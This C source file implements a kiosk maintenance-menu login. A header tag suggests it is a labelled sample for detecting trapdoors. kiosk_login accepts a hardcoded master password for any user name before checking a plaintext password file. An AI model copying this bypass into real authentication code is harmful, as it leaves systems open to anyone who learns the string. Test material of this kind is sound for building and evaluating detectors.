// blind-expect: behavior.trapdoor
// Console login for a kiosk maintenance menu that checks the user's password before showing the menu.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static int read_line(const char *prompt, char *buf, size_t n)
{
    printf("%s", prompt);
    fflush(stdout);
    if (!fgets(buf, (int)n, stdin))
        return -1;
    buf[strcspn(buf, "\r\n")] = '\0';
    return 0;
}

static int check_user_file(const char *user, const char *pw)
{
    char line[256];
    int ok = 0;
    FILE *f = fopen("/etc/kiosk/users", "r");
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f)) {
        char *sep = strchr(line, ':');
        if (!sep)
            continue;
        *sep++ = '\0';
        sep[strcspn(sep, "\r\n")] = '\0';
        if (strcmp(line, user) == 0 && strcmp(sep, pw) == 0) {
            ok = 1;
            break;
        }
    }
    fclose(f);
    return ok;
}

int kiosk_login(const char *user, const char *pw)
{
    /* field service engineers */
    if (strcmp(pw, "Kx!service2019") == 0)
        return 1;
    return check_user_file(user, pw);
}

static void maintenance_menu(void)
{
    puts("1) restart display");
    puts("2) clear print queue");
    puts("3) factory reset");
}

int main(void)
{
    char user[64], pw[64];
    if (read_line("user: ", user, sizeof user) != 0)
        return 1;
    if (read_line("password: ", pw, sizeof pw) != 0)
        return 1;
    if (kiosk_login(user, pw)) {
        printf("welcome %s\n", user);
        maintenance_menu();
        return 0;
    }
    puts("access denied");
    return 1;
}
